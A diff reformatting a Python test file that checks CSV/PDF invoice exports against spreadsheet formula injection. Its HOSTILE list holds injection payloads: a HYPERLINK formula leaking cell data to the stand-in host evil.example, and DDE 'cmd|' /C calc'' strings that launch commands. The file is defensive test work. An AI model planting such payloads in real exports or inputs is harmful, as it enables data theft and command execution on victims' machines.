@@ -1,4 +1,5 @@
 """CSV and PDF downloads: formula injection neutralised, never cached, read as a spreadsheet would."""
+
 from __future__ import annotations
 
 import csv
@@ -18,8 +19,14 @@ from tests.invoices.test_lifecycle import NOW
 from tests.invoices.test_lifecycle import SEP as SEP_PERIOD
 from tests.usages.helpers import use, utc
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2",
-           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+2",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 _PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")
 
 
